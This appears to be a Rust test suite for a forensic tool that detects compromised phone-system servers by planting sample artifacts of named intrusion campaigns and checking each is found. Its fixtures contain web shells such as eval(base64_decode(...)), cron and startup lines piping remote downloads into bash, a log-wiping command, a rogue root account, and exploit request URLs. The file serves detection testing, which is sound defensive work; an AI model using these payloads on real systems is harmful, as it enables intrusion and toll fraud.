//! One exemplar of every campaign, planted on a server that was clean: found with its proof, absent before.

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use tolltrace::case::Options;
use tolltrace::evidence::Evidence;
use tolltrace::report::model::{Finding, Report, Severity};

use crate::scenarios::examine_folder;
use crate::scratch::Scratch;
use crate::support::shared;

/// What a campaign leaves, and what is to be found of it.
struct Exemplar {
    campaign: &'static str,
    /// Files, with their text.
    files: &'static [(&'static str, &'static str)],
    /// Lines of the web server's log.
    requests: &'static [&'static str],
    /// Id and subject of each finding, and a part of the line that proves it.
    found: &'static [(&'static str, &'static str, &'static str)],
    /// The vectors of the incidents.
    incidents: &'static [&'static str],
}

const ROWS: &str = "-- MariaDB dump 10.19\nCREATE TABLE `ampusers` (\n  `username` varchar(255),\n  `password_sha1` varchar(40),\n  `sections` blob\n);\nINSERT INTO `ampusers` VALUES ('admin','ec2faf80327bbcae00211f89ac3945e2f1fa363d','*')";

const EXEMPLARS: &[Exemplar] = &[
    Exemplar {
        campaign: "e57819",
        files: &[
            ("var/www/html/modular.php", "<?php inert(); ?>\n"),
            ("var/www/html/.clean.sh", "#!/bin/bash\n: sed -i '/modular/d' /var/log/httpd/access_log\n"),
        ],
        requests: &[
            "203.0.113.5 - - [06/Mar/2026:03:10:02 +0000] \"GET /admin/ajax.php?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&brand=x%27 HTTP/1.1\" 500 185 \"-\" \"x\"",
            "203.0.113.5 - - [06/Mar/2026:03:11:02 +0000] \"POST /modular.php HTTP/1.1\" 200 185 \"-\" \"x\"",
        ],
        found: &[
            ("web-shell", "/var/www/html/modular.php", "inert"),
            ("web-shell", "/var/www/html/.clean.sh", "sed -i"),
            ("exploit-request", "e57819-1", "endpoint%5Cajax"),
        ],
        incidents: &["web-exploit"],
    },
    Exemplar {
        campaign: "e66039",
        files: &[],
        requests: &[
            "203.0.113.5 - - [06/Mar/2026:03:10:02 +0000] \"POST /admin/ajax.php?module=endpoint&command=upload_cust_fw&fwbrand=..%2f..%2fvar%2fwww HTTP/1.1\" 200 185 \"-\" \"x\"",
        ],
        found: &[("exploit-request", "e66039-1", "fwbrand=..%2f")],
        incidents: &[],
    },
    Exemplar {
        campaign: "e64328",
        files: &[
            ("var/www/html/admin/modules/freepbx_ha/license.php", "<?php $k='bm2cjjnRXac1WW3KT7k6MKTR';\n"),
            ("var/lib/asterisk/bin/zen2", "#!/bin/bash\nwget http://45.234.176.202/new/k.php\n"),
            ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nnewfpbx:x:0:0::/root:/bin/bash\n"),
        ],
        requests: &[
            "203.0.113.5 - - [06/Mar/2026:03:11:02 +0000] \"POST /admin/modules/freepbx_ha/license.php HTTP/1.1\" 200 185 \"-\" \"x\"",
        ],
        found: &[
            ("web-shell", "/var/www/html/admin/modules/freepbx_ha/license.php", "bm2cjj"),
            ("indicator", "/var/lib/asterisk/bin/zen2", "#!/bin/bash"),
            ("unknown-host-user", "/etc/passwd", "newfpbx:*:0"),
        ],
        incidents: &["web-exploit"],
    },
    Exemplar {
        campaign: "jomangy",
        files: &[
            ("var/www/html/rest_phones/ajax.php", "<?php // name=\"JOMANGY\"\n"),
            ("var/spool/cron/root", "* * * * * echo 'Y3VybCBodHRwOi8vMTkyLjAuMi4xL3g='|base64 -d|bash\n"),
            ("usr/lib/.systemd/.cache", "* * * * * x\n"),
            ("etc/iptables/rules.v4", "*filter\n-A INPUT -s 62.171.157.156/32 -j DROP\nCOMMIT\n"),
        ],
        requests: &[
            "203.0.113.5 - - [06/Mar/2026:03:11:02 +0000] \"GET /rest_phones/ajax.php?md5=cf710203400b8c466e6dfcafcf36a411 HTTP/1.1\" 200 185 \"-\" \"x\"",
        ],
        found: &[
            ("web-shell", "/var/www/html/rest_phones/ajax.php", "JOMANGY"),
            ("persistence-cron", "/var/spool/cron/root", "base64 -d|bash"),
            ("indicator", "/usr/lib/.systemd/.cache", "* * * * * x"),
            ("indicator", "/etc/iptables/rules.v4", "62.171.157.156"),
        ],
        incidents: &["web-exploit"],
    },
    Exemplar {
        campaign: "inj3ctor3",
        files: &[
            ("var/www/html/recordings/theme/main.php", "<?php /* INJ3CTOR3 */\n"),
            ("etc/rc.local", "#!/bin/sh\n(setsid wget -qO- http://192.0.2.1/k | bash &)\n"),
        ],
        requests: &[
            "203.0.113.5 - - [06/Mar/2026:03:11:02 +0000] \"GET /admin/config.php?username=admin&password%5B0%5D=x HTTP/1.1\" 302 185 \"-\" \"x\"",
        ],
        found: &[
            ("web-shell", "/var/www/html/recordings/theme/main.php", "INJ3CTOR3"),
            ("persistence-startup", "/etc/rc.local", "setsid wget"),
            ("exploit-request", "inj3ctor3-2", "password%5B0%5D"),
        ],
        incidents: &["web-exploit"],
    },
    Exemplar {
        campaign: "isstok",
        files: &[
            ("root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2E t3rr0r@private\n"),
            ("usr/sbin/setuid", "\u{7f}ELF"),
            (
                "etc/asterisk/startup.d/postroot.sh",
                "#!/bin/sh\ncurl -ks http://212.83.160.70/r/postroot.sh | bash\n",
            ),
        ],
        requests: &[],
        found: &[
            ("rogue-ssh-key", "/root/.ssh/authorized_keys", "t3rr0r@private"),
            ("indicator", "/usr/sbin/setuid", "ELF"),
            ("persistence-startup", "/etc/asterisk/startup.d/postroot.sh", "212.83.160.70"),
        ],
        incidents: &["web-exploit"],
    },
    Exemplar {
        campaign: "thankuohoh",
        files: &[
            ("etc/asterisk/extensions_custom.conf", "[macro-thanku-outcall]\nexten => s,1,Dial(SIP/x)\n"),
            ("var/www/html/admin/libraries/php-upgrade/ext/config.php", "<?php inert();\n"),
        ],
        requests: &[],
        found: &[
            ("indicator", "/etc/asterisk/extensions_custom.conf", "macro-thanku-outcall"),
            ("web-shell", "/var/www/html/admin/libraries/php-upgrade/ext/config.php", "inert"),
        ],
        incidents: &["web-exploit"],
    },
    Exemplar {
        campaign: "classic",
        files: &[],
        requests: &[
            "203.0.113.5 - - [06/Mar/2026:03:11:02 +0000] \"GET /recordings/misc/callme_page.php?action=c&callmenum=888@ext-featurecodes/n%0D%0AApplication:%20system HTTP/1.1\" 200 185 \"-\" \"x\"",
        ],
        found: &[("exploit-request", "classic-1", "callme_page.php")],
        incidents: &[],
    },
    Exemplar {
        campaign: "freepbx-2026",
        files: &[(
            "var/backups/asterisk-20260307.sql",
            "-- MariaDB dump 10.19\nCREATE TABLE `modules` (\n  `id` int,\n  `modulename` varchar(50),\n  `version` varchar(20)\n);\nINSERT INTO `modules` VALUES (1,'userman','17.0.6.10'),(2,'core','17.0.18');\n",
        )],
        requests: &[],
        found: &[("vulnerable-module", "modules of the panel", "userman: 17.0.6.10")],
        incidents: &[],
    },
    Exemplar {
        campaign: "fusionpbx",
        files: &[],
        requests: &[
            "203.0.113.5 - - [06/Mar/2026:03:11:02 +0000] \"GET /app/operator_panel/exec.php?cmd=bg_system%20id HTTP/1.1\" 200 185 \"-\" \"x\"",
        ],
        found: &[("exploit-request", "fusionpbx-1", "bg_system")],
        incidents: &[],
    },
    Exemplar {
        campaign: "generic",
        files: &[
            ("var/www/html/uploads/a.phtml", "<?php @eval(base64_decode($_REQUEST['x']));\n"),
            ("etc/cron.d/a", "*/5 * * * * root curl -s http://192.0.2.1/x | bash\n"),
            ("home/asterisk/.ssh/authorized_keys", "ssh-ed25519 AAAAC3 a@b\n"),
        ],
        requests: &[
            "203.0.113.5 - - [06/Mar/2026:03:11:02 +0000] \"POST /uploads/a.phtml HTTP/1.1\" 200 185 \"-\" \"x\"",
        ],
        found: &[
            ("web-shell", "/var/www/html/uploads/a.phtml", "eval"),
            ("persistence-cron", "/etc/cron.d/a", "curl -s"),
            ("rogue-ssh-key", "/home/asterisk/.ssh/authorized_keys", "a@b"),
        ],
        incidents: &["web-exploit"],
    },
];

/// Writes the pages of a panel and the users of its host, as they should be.
pub(crate) fn panel_and_users(scratch: &Scratch) {
    for number in 0..12 {
        scratch.file(
            &format!("rootfs/var/www/html/admin/page{number}.php"),
            "<?php require_once 'bootstrap.php';\n",
        );
    }
    scratch.file(
        "rootfs/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nasterisk:x:999:995::/home/asterisk:/bin/bash\n",
    );
}

/// Writes a small server that is clean, as one is found: a panel, its log, jobs, users.
fn clean(scratch: &Scratch) {
    panel_and_users(scratch);
    scratch.file("rootfs/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    scratch.file(
        "rootfs/etc/asterisk/extensions_custom.conf",
        "[from-internal-custom]\nexten => 7000,1,Page(PJSIP/1)\n",
    );
    scratch.file("rootfs/var/log/apache2/access.log", &log(&[]));
    scratch.file("rootfs/var/backups/asterisk-20260301.sql", &format!("{ROWS};\n"));
}

/// Returns a day of the web server's log with more lines at its end.
fn log(more: &[&str]) -> String {
    let mut text = String::new();
    for minute in 0..50 {
        text.push_str(&format!(
            "192.168.1.20 - - [05/Mar/2026:09:{minute:02}:00 +0000] \"GET /admin/config.php?display=extensions HTTP/1.1\" 200 999 \"http://pbx/admin/config.php\" \"Mozilla/5.0\"\n\
             198.51.100.{minute} - - [05/Mar/2026:09:{minute:02}:30 +0000] \"GET /admin/views/ajax.php HTTP/1.1\" 404 9 \"-\" \"zgrab/0.x\"\n"
        ));
    }
    more.iter().for_each(|line| text.push_str(&format!("{line}\n")));
    text
}

fn plant(root: &Path, exemplar: &Exemplar, log: &Path) {
    for (path, text) in exemplar.files {
        let path = root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    if !exemplar.requests.is_empty() {
        let mut text = fs::read_to_string(log).unwrap();
        exemplar.requests.iter().for_each(|line| text.push_str(&format!("{line}\n")));
        fs::write(log, text).unwrap();
    }
}

fn of<'r>(report: &'r Report, id: &str, subject: &str) -> Option<&'r Finding> {
    report.findings.iter().find(|finding| finding.id == id && finding.subject.raw() == subject)
}

fn compare(before: &Report, after: &Report, exemplar: &Exemplar) {
    let campaign = exemplar.campaign;
    for (id, subject, proof) in exemplar.found {
        assert!(of(before, id, subject).is_none(), "{campaign}: {id} {subject} before");
        let found = of(after, id, subject);
        let found = found.unwrap_or_else(|| panic!("{campaign}: no {id} of {subject}"));
        let has_proof = found.evidence.iter().any(|line| line.text.raw().contains(proof));
        assert!(has_proof, "{campaign}: {id} {subject}: {:?}", found.evidence);
        let is_listed = |path: &str| after.evidence.iter().any(|row| row.path == path);
        assert!(found.evidence.iter().all(|line| is_listed(&line.path)), "{campaign}: {:?}", found.evidence);
    }
    let vectors = |report: &Report| -> Vec<&str> {
        report.incidents.iter().map(|incident| incident.entry.vector.word()).collect()
    };
    assert!(vectors(before).is_empty(), "{campaign}: {:?}", vectors(before));
    assert_eq!(vectors(after), exemplar.incidents, "{campaign}");
}

/// Returns findings that speak of an intrusion; a weak secret and an open panel are nobody's doing but the owner's.
fn grave(report: &Report) -> Vec<String> {
    let is_owners = |id: &str| matches!(id, "weak-secret" | "panel-open-to-all");
    let is_grave = |finding: &&Finding| finding.severity <= Severity::High && !is_owners(finding.id);
    report
        .findings
        .iter()
        .filter(is_grave)
        .map(|finding| format!("{} {}", finding.id, finding.title))
        .collect()
}

#[test]
fn every_campaign_is_found_on_a_server_that_was_clean() {
    let covered: BTreeSet<&str> = EXEMPLARS.iter().map(|exemplar| exemplar.campaign).collect();
    // Programs show themselves in contacts and not in files of the host: tried in `marks`.
    let all = tolltrace::indicators::all().iter().map(|it| it.campaign.as_str());
    let known: BTreeSet<&str> = all.filter(|campaign| *campaign != "tools").collect();
    assert_eq!(covered, known, "each campaign has an exemplar");
    for exemplar in EXEMPLARS {
        let scratch = Scratch::new();
        clean(&scratch);
        let before = examine_folder(scratch.path(), &Options::default());
        assert!(grave(&before).is_empty(), "{:?}", grave(&before));
        let root = scratch.path().join("rootfs");
        plant(&root, exemplar, &root.join("var/log/apache2/access.log"));
        compare(&before, &examine_folder(scratch.path(), &Options::default()), exemplar);
    }
}

#[test]
fn every_campaign_is_found_on_a_copy_of_a_real_server() {
    let Some(archive) = shared("evidence/host-clean/rootfs.tar.gz") else { return };
    let scratch = Scratch::new();
    let bytes = fs::read(archive).unwrap();
    tar::Archive::new(flate2::read::GzDecoder::new(bytes.as_slice())).unpack(scratch.path()).unwrap();
    let root = scratch.path().join("rootfs");
    let log = root.join("var/log/apache2/access.log");
    let before = examine_folder(scratch.path(), &Options::default());
    assert!(grave(&before).is_empty(), "{:?}", grave(&before));
    // All at once: each is found beside the others.
    for exemplar in EXEMPLARS {
        plant(&root, exemplar, &log);
    }
    let after = examine_folder(scratch.path(), &Options::default());
    for exemplar in EXEMPLARS {
        for (id, subject, _) in exemplar.found.iter().filter(|(id, ..)| *id != "vulnerable-module") {
            assert!(of(&before, id, subject).is_none(), "{}: {id} {subject} before", exemplar.campaign);
            assert!(of(&after, id, subject).is_some(), "{}: no {id} of {subject}", exemplar.campaign);
        }
    }
}

#[test]
fn an_administrator_made_overnight_is_told() {
    let scratch = Scratch::new();
    clean(&scratch);
    let row = "('svc2','aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa','*')";
    scratch.file("rootfs/var/backups/asterisk-20260307.sql", &format!("{ROWS},\n{row};\n"));
    let report = examine_folder(scratch.path(), &Options::default());
    let found = of(&report, "unknown-admin", "svc2").expect("a finding");
    assert_eq!(found.severity, Severity::Medium);
    assert_eq!(found.evidence[0].line, Some(8));
    assert!(report.incidents.is_empty());
    // In the night of an attack that was answered it is the intruder's.
    let attack = "203.0.113.5 - - [06/Mar/2026:03:10:02 +0000] \"GET /admin/ajax.php?module=a%5Cb HTTP/1.1\" 500 1 \"-\" \"x\"";
    scratch.file("rootfs/var/log/apache2/access.log", &log(&[attack]));
    set_times(scratch.path(), &["asterisk-20260301.sql", "asterisk-20260307.sql"]);
    let report = examine_folder(scratch.path(), &Options::default());
    assert_eq!(report.incidents.len(), 1);
    assert!(report.incidents[0].accounts.iter().any(|account| account.name.raw() == "svc2"));
    // Such a user is deleted: a new secret would keep it for him.
    let found = of(&report, "unknown-admin", "svc2").expect("a finding");
    assert_eq!(found.severity, Severity::Critical);
    assert!(of(&report, "account-taken-over", "svc2").is_none());
}

#[test]
fn when_somebody_got_in_is_not_on_record_where_nothing_that_he_left_bears_a_time() {
    let scratch = Scratch::new();
    let row = "('ampuser','aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa','*')";
    scratch.file("backup/asterisk.sql", &format!("{ROWS},\n{row};\n"));
    // The first call on record is an honest one.
    let call = "\"\",\"301\",\"03055501\",\"from-internal\",\"301\",\"PJSIP/301-00000001\",\"\",\"Dial\",\"x\",\"2026-03-06 09:00:01\",\"2026-03-06 09:00:02\",\"2026-03-06 09:01:02\",60,60,\"ANSWERED\",\"DOCUMENTATION\",\"1772787601.1\",\"\"\n";
    scratch.file("backup/Master.csv", call);
    let report = examine_folder(scratch.path(), &Options::default());
    let [incident] = report.incidents.as_slice() else { panic!("{:?}", report.findings) };
    assert_eq!(incident.breach, None);
    assert!(!incident.title.contains("March"), "{}", incident.title);
    assert!(incident.unknown.iter().any(|what| what.starts_with("when somebody first got in")));
}

/// Gives dumps the time that their names tell.
fn set_times(folder: &Path, names: &[&str]) {
    for name in names {
        let day: u64 = name[15..17].parse().unwrap();
        let at = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_772_323_200 + (day - 1) * 86_400);
        let file =
            fs::File::options().append(true).open(folder.join("rootfs/var/backups").join(name)).unwrap();
        file.set_modified(at).unwrap();
    }
}

#[test]
fn a_panel_whose_password_was_guessed() {
    let scratch = Scratch::new();
    clean(&scratch);
    let mut text = String::new();
    for second in 0..9 {
        text.push_str(&format!("[Mar 06 03:00:0{second} 2026] LOGIN admin: Authentication Failure to Web Interface login. Failed password for admin from 203.0.113.9.\n"));
    }
    scratch.file("rootfs/var/log/issabel/audit.log", &text);
    assert!(examine_folder(scratch.path(), &Options::default()).incidents.is_empty());
    text.push_str("[Mar 06 03:01:00 2026] LOGIN admin: Web Interface login successful. Accepted password for admin from 203.0.113.9.\n");
    scratch.file("rootfs/var/log/issabel/audit.log", &text);
    let report = examine_folder(scratch.path(), &Options::default());
    let vectors: Vec<&str> = report.incidents.iter().map(|incident| incident.entry.vector.word()).collect();
    assert_eq!(vectors, ["web-admin"]);
}

#[test]
fn rights_of_root_are_told_by_the_mode_of_a_file() {
    let scratch = Scratch::new();
    let program = scratch.file("rootfs/opt/x/helper", "\u{7f}ELF");
    scratch.file("rootfs/usr/bin/sudo", "\u{7f}ELF");
    clean(&scratch);
    assert!(
        of(&examine_folder(scratch.path(), &Options::default()), "set-user-program", "/opt/x/helper")
            .is_none()
    );
    for path in [program, scratch.path().join("rootfs/usr/bin/sudo")] {
        fs::set_permissions(path, fs::Permissions::from_mode(0o4755)).unwrap();
    }
    let report = examine_folder(scratch.path(), &Options::default());
    assert!(of(&report, "set-user-program", "/opt/x/helper").is_some());
    assert!(of(&report, "set-user-program", "/usr/bin/sudo").is_none());
}

#[test]
fn a_page_that_is_not_what_its_module_was_signed_with() {
    let scratch = Scratch::new();
    clean(&scratch);
    let folder = "rootfs/var/www/html/admin/modules/core";
    let page = "<?php class Core {}\n";
    let digest = "5b2dbf3a1a0d4f3d9d9f6f2f8ac40b21d0a1d6f3f6b7b5d8e7a7c4f2b1a09988";
    scratch.file(&format!("{folder}/Core.class.php"), page);
    scratch.file(
        &format!("{folder}/module.sig"),
        &format!("-----BEGIN PGP SIGNED MESSAGE-----\n[hashes]\nCore.class.php = {digest}\n;# End\n"),
    );
    let report = examine_folder(scratch.path(), &Options::default());
    let found = of(&report, "module-file-changed", "/var/www/html/admin/modules/core/Core.class.php")
        .expect("a finding");
    assert!(found.evidence.iter().any(|line| line.text.raw().contains(digest)), "{:?}", found.evidence);
}

#[test]
fn published_configurations_raise_nothing_of_an_intruders() {
    let Some(trees) = shared("corpora/trees") else { return };
    let ids = [
        "web-shell",
        "indicator",
        "persistence-",
        "rogue-",
        "unknown-",
        "set-user",
        "module-file",
        "changed-during",
    ];
    for tree in fs::read_dir(trees).unwrap().map(|entry| entry.unwrap().path()).filter(|path| path.is_dir()) {
        let report = examine_folder(&tree, &Options::default());
        let found: Vec<String> = report
            .findings
            .iter()
            .filter(|finding| ids.iter().any(|id| finding.id.starts_with(id)))
            .map(|finding| format!("{} {}", finding.id, finding.title))
            .collect();
        assert!(found.is_empty(), "{}: {found:?}", tree.display());
        assert!(report.incidents.is_empty(), "{}", tree.display());
    }
}

#[test]
fn what_was_planted_on_the_attacked_server_is_found_with_its_proof() {
    let Some(folder) = shared("evidence/host-web-exploit") else { return };
    let report = examine_folder(&folder.join("rootfs.tar.gz"), &Options::default());
    let artifacts = fs::read_to_string(folder.join("artifacts.json")).unwrap();
    let artifacts: serde_json::Value = serde_json::from_str(&artifacts).unwrap();
    for planted in artifacts["planted"].as_array().unwrap() {
        let path = planted["path"].as_str().unwrap();
        let has_proof = |finding: &&Finding| finding.evidence.iter().any(|line| line.path.ends_with(path));
        // Files that bear no mark are told of together.
        let is_of_it = |finding: &&Finding| {
            finding.subject.raw() == path || (finding.id == "changed-during-intrusion" && has_proof(finding))
        };
        let findings: Vec<&Finding> = report.findings.iter().filter(is_of_it).collect();
        assert!(!findings.is_empty(), "{path} is not found");
        assert!(findings.iter().all(has_proof), "{path}");
    }
}

#[test]
fn files_without_a_mark_that_were_written_then_are_one_finding() {
    let Some(folder) = shared("evidence/host-web-exploit") else { return };
    let report = examine_folder(&folder.join("rootfs.tar.gz"), &Options::default());
    let found: Vec<&Finding> =
        report.findings.iter().filter(|finding| finding.id == "changed-during-intrusion").collect();
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].severity, Severity::Medium);
    let told: BTreeSet<&str> = report.findings.iter().map(|finding| finding.subject.raw()).collect();
    for proof in &found[0].evidence {
        assert!(!told.iter().any(|subject| subject.starts_with('/') && proof.path.ends_with(subject)));
    }
}

#[test]
fn an_extension_that_the_intruder_made_is_told() {
    let Some(folder) = shared("evidence/host-web-exploit") else { return };
    let report = examine_folder(&folder.join("rootfs.tar.gz"), &Options::default());
    let found = of(&report, "account-made-by-intruder", "9998").expect("a finding");
    assert_eq!(found.severity, Severity::Critical);
    assert!(found.evidence[0].path.contains("asterisk-20250825.sql"), "{:?}", found.evidence);
    assert!(of(&report, "account-taken-over", "9998").is_none());
}

#[test]
fn copies_of_secrets_that_strangers_were_given() {
    let scratch = Scratch::new();
    clean(&scratch);
    let line = |address: &str, user: &str, path: &str, status: u16| {
        format!(
            "{address} - {user} [06/Mar/2026:03:10:02 +0000] \"GET {path} HTTP/1.1\" {status} 900 \"-\" \"Wget\""
        )
    };
    let requests = [
        line("203.0.113.5", "-", "/backup/etc-asterisk.tar.gz", 200),
        line("203.0.113.5", "-", "/backup/pjsip.conf.bak", 200),
        // Not there; from inside; with a password; a page.
        line("203.0.113.6", "-", "/backup.zip", 404),
        line("192.168.1.20", "-", "/backup/etc-asterisk.tar.gz", 200),
        line("203.0.113.7", "admin", "/backup/etc-asterisk.tar.gz", 200),
        line("203.0.113.8", "-", "/admin/config.php", 200),
    ];
    let requests: Vec<&str> = requests.iter().map(String::as_str).collect();
    scratch.file("rootfs/var/log/apache2/access.log", &log(&requests));
    let report = examine_folder(scratch.path(), &Options::default());
    let found: Vec<&Finding> =
        report.findings.iter().filter(|finding| finding.id == "secrets-downloaded").collect();
    assert_eq!(found.len(), 1, "{:?}", found.iter().map(|found| &found.title).collect::<Vec<_>>());
    assert_eq!((found[0].severity, found[0].subject.raw()), (Severity::Critical, "203.0.113.5"));
    assert_eq!(found[0].evidence.len(), 2);
    assert!(report.incidents.is_empty());
}

#[test]
fn a_tree_of_many_pages_stays_few_sources() {
    let scratch = Scratch::new();
    for number in 0..400 {
        scratch.file(&format!("rootfs/var/www/html/a{}/page{number}.php", number % 7), "<?php echo 1;\n");
    }
    scratch.file("rootfs/var/www/html/a1/x.php", "<?php system($_POST['c']);\n");
    let evidence = Evidence::gather(&[PathBuf::from(scratch.path())]).unwrap();
    let paths: Vec<&str> = evidence.sources.iter().map(|source| source.file.path.as_str()).collect();
    assert_eq!(paths, ["rootfs/var/www/html/a1/x.php"]);
}

#[test]
fn a_user_of_issabels_panel_is_read_out_of_its_database() {
    let scratch = Scratch::new();
    clean(&scratch);
    let make = |names: &[&str]| {
        let path = scratch.file("rootfs/var/www/db/acl.db", "");
        let database = rusqlite::Connection::open(path).unwrap();
        database
            .execute_batch("CREATE TABLE acl_user (id INTEGER PRIMARY KEY, name TEXT, description TEXT, md5_password TEXT)")
            .unwrap();
        for name in names {
            database.execute("INSERT INTO acl_user (name, md5_password) VALUES (?, 'x')", [name]).unwrap();
        }
    };
    make(&["admin"]);
    let before = examine_folder(scratch.path(), &Options::default());
    assert!(of(&before, "unknown-admin", "atmin").is_none() && before.incidents.is_empty());
    fs::remove_file(scratch.path().join("rootfs/var/www/db/acl.db")).unwrap();
    make(&["admin", "atmin"]);
    let report = examine_folder(scratch.path(), &Options::default());
    let found = of(&report, "unknown-admin", "atmin").expect("a finding");
    assert!(found.evidence[0].path.ends_with("acl.db") && found.evidence[0].text.raw().contains("atmin"));
    assert_eq!(report.incidents.len(), 1);
}

/// Orders that a hole takes at once: no page is left, and the calls follow the requests.
#[test]
fn calls_that_a_request_orders_by_itself() {
    let scratch = Scratch::new();
    clean(&scratch);
    let row = |start: &str, id: u32, channel: &str, dialed: &str, trunk: &str| {
        format!(
            "\"\",\"{dialed}\",\"{dialed}\",\"from-internal\",\"\"\"\"\" <1>\",\"{channel}\",\"{trunk}\",\"Dial\",\"{trunk}\",\"{start}\",\"{start}\",\"{start}\",60,60,\"ANSWERED\",\"DOCUMENTATION\",\"17727660{id:02}.{id}\",\"\"\n"
        )
    };
    let mut rows = String::new();
    let mut requests = Vec::new();
    for number in 0..6 {
        let channel = format!("Local/0023276000{number}@from-internal-0000000{number};2");
        rows += &row(
            &format!("2026-03-06 03:00:{:02}", number * 9 + 1),
            number,
            &channel,
            &format!("0023276000{number}"),
            "PJSIP/carrier-1",
        );
        requests.push(format!(
            "203.0.113.5 - - [06/Mar/2026:03:00:{:02} +0000] \"GET /recordings/misc/callme_page.php?action=c&callmenum=0023276000{number}@from-internal/n HTTP/1.1\" 200 1 \"-\" \"x\"",
            number * 9
        ));
    }
    // The owner's own: a wake-up call, and click to call in the morning.
    rows += &row("2026-03-06 06:30:00", 50, "Local/2003@from-internal-00000050;2", "2003", "PJSIP/2003-1");
    rows += &row(
        "2026-03-06 09:30:00",
        51,
        "Local/03011223344@from-internal-00000051;2",
        "03011223344",
        "PJSIP/carrier-2",
    );
    scratch.file("rootfs/var/log/asterisk/cdr-csv/Master.csv", &rows);
    scratch.file("rootfs/etc/timezone", "Etc/UTC\n");
    scratch.file(
        "rootfs/etc/asterisk/pjsip.conf",
        "[carrier]\ntype=endpoint\naors=carrier\n[carrier]\ntype=aor\ncontact=sip:198.51.100.200\n[carrier]\ntype=identify\nendpoint=carrier\nmatch=198.51.100.200\n",
    );
    let before = examine_folder(scratch.path(), &Options::default());
    assert!(before.incidents.is_empty(), "{:?}", before.incidents[0].title);
    let requests: Vec<&str> = requests.iter().map(String::as_str).collect();
    scratch.file("rootfs/var/log/apache2/access.log", &log(&requests));
    let report = examine_folder(scratch.path(), &Options::default());
    assert_eq!(report.incidents.len(), 1);
    let incident = &report.incidents[0];
    assert_eq!(incident.entry.vector.word(), "web-exploit");
    assert_eq!(
        incident.calls.len(),
        6,
        "{:?}",
        incident.calls.iter().map(|call| call.dialed.raw()).collect::<Vec<_>>()
    );
    assert!(incident.calls.iter().all(|call| call.dialed.raw().starts_with("00232")));
    assert_eq!(incident.sources.len(), 1);
}

/// FreePBX logs wrong passwords only; who works in its panel afterwards had the right one.
#[test]
fn a_password_of_freepbx_that_was_guessed() {
    let failures = |count: u32, address: &str| -> String {
        let line = |second| {
            format!(
                "[2026-03-06 03:00:{second:02}] [freepbx_security.NOTICE]: Authentication failure for admin from {address} [] []\n"
            )
        };
        (0..count).map(line).collect()
    };
    let work = |address: &str| {
        format!(
            "{address} - - [06/Mar/2026:03:02:02 +0000] \"GET /admin/ajax.php?module=core&command=getJSON HTTP/1.1\" 200 9 \"http://pbx/admin/config.php\" \"x\""
        )
    };
    for (wrong, worked, expected) in
        [(40, true, vec!["web-admin"]), (40, false, vec![]), (3, true, vec![]), (0, true, vec![])]
    {
        let scratch = Scratch::new();
        clean(&scratch);
        scratch.file("rootfs/etc/timezone", "Etc/UTC\n");
        let text = failures(wrong, "203.0.113.9") + &failures(2, "203.0.113.77");
        scratch.file("rootfs/var/log/asterisk/freepbx_security.log", &text);
        let address = if worked { "203.0.113.9" } else { "203.0.113.10" };
        scratch.file("rootfs/var/log/apache2/access.log", &log(&[&work(address)]));
        let report = examine_folder(scratch.path(), &Options::default());
        let vectors: Vec<&str> =
            report.incidents.iter().map(|incident| incident.entry.vector.word()).collect();
        assert_eq!(vectors, expected, "{wrong} wrong, {worked}");
    }
}
